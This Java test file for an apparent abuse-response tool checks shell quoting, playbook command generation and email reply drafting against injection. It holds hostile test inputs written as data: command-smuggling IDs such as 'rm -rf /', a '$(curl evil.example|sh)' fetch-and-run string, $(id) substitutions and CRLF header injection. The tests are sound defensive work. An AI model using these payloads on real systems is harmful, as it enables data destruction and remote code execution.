package dev.abusedesk.respond;

import static org.assertj.core.api.Assertions.assertThat;

import dev.abusedesk.config.Language;
import dev.abusedesk.report.Category;
import java.time.Instant;
import java.util.EnumSet;
import java.util.List;
import java.util.Optional;
import org.junit.jupiter.api.Test;

class ShellTest {

  @Test
  void leavesPlainIdsBareAndQuotesEverythingElse() {
    assertThat(Shell.quote("i-0a1b2c3d4e5f60718")).isEqualTo("i-0a1b2c3d4e5f60718");
    assertThat(Shell.quote("a b")).isEqualTo("'a b'");
    assertThat(Shell.quote("it's")).isEqualTo("'it'\\''s'");
    assertThat(Shell.quote("")).isEqualTo("''");
    assertThat(Shell.quote("--endpoint-url=http://evil")).isEqualTo("'--endpoint-url=http://evil'");
  }

  @Test
  void quotedWordsSurviveARealShellUnchanged() throws Exception {
    String hostile = "x'; touch /tmp/pwned; echo '$(id) `id` \"$HOME\" \\ \n;|&<>*?";
    Process p =
        new ProcessBuilder("/bin/sh", "-c", "printf %s " + Shell.quote(hostile))
            .redirectErrorStream(true)
            .start();
    String out =
        new String(p.getInputStream().readAllBytes(), java.nio.charset.StandardCharsets.UTF_8);
    assertThat(p.waitFor()).isZero();
    assertThat(out).isEqualTo(hostile);
  }

  @Test
  void aHostileResourceIdNeverReachesACommand() {
    List<String> hostile =
        List.of(
            "i-0abc;rm -rf /",
            "$(curl evil.example|sh)",
            "i-0123456789abcdef0`id`",
            "sg-1234'$(id)'",
            "AKIA$(id)",
            "arn:aws:s3:::bucket;id");
    CaseFacts facts =
        new CaseFacts(
            7,
            Category.OTHER,
            List.of("12345678"),
            List.of("111122223333"),
            List.of("us-east-1; id"),
            hostile,
            List.of(),
            List.of("evil.example; id", "$(id).example"),
            List.of("`id`.example"),
            List.of(),
            List.of(),
            Instant.EPOCH,
            Optional.empty(),
            Optional.empty());
    for (Category category : EnumSet.allOf(Category.class)) {
      CaseFacts as =
          new CaseFacts(
              facts.caseId(),
              category,
              facts.awsCaseIds(),
              facts.accounts(),
              facts.regions(),
              facts.resources(),
              facts.ips(),
              facts.recipientDomains(),
              facts.reportedDomains(),
              facts.sourceIps(),
              facts.actionsTaken(),
              facts.openedAt(),
              facts.deadline(),
              facts.awsMail());
      for (Language language : Language.values()) {
        for (Playbook.Step step : Playbooks.of(as, language).steps()) {
          for (String command : step.commands()) {
            assertThat(command)
                .as("%s %s", category, step.title())
                .doesNotContain("$(id)", "`id`", "rm -rf", "curl evil", "; id");
          }
        }
      }
    }
  }

  @Test
  void missingValuesBecomePlaceholdersThatStopTheCommand() {
    CaseFacts facts =
        new CaseFacts(
            7,
            Category.DOS,
            List.of(),
            List.of(),
            List.of("eu-west-1", "us-east-1"),
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            Instant.EPOCH,
            Optional.empty(),
            Optional.empty());

    String text = PlaybookText.of(Playbooks.of(facts, Language.EN));

    assertThat(text)
        .contains("--instance-ids \"${INSTANCE_ID:?set INSTANCE_ID first}\"")
        .contains("--region \"${AWS_REGION:?set AWS_REGION first}\"");
  }

  @Test
  void reportValuesCannotAddLinesToAReply() {
    CaseFacts facts =
        new CaseFacts(
            7,
            Category.SPAM,
            List.of("123\nBcc: x@evil.example"),
            List.of(),
            List.of(),
            List.of("i-1\r\nSubject: hi"),
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            List.of(),
            Instant.EPOCH,
            Optional.empty(),
            Optional.empty());

    for (Draft draft : ReplyDrafts.of(facts)) {
      assertThat(draft.subject()).doesNotContain("\n", "\r");
      assertThat(draft.body()).doesNotContain("\nBcc:", "\nSubject:");
    }
  }
}
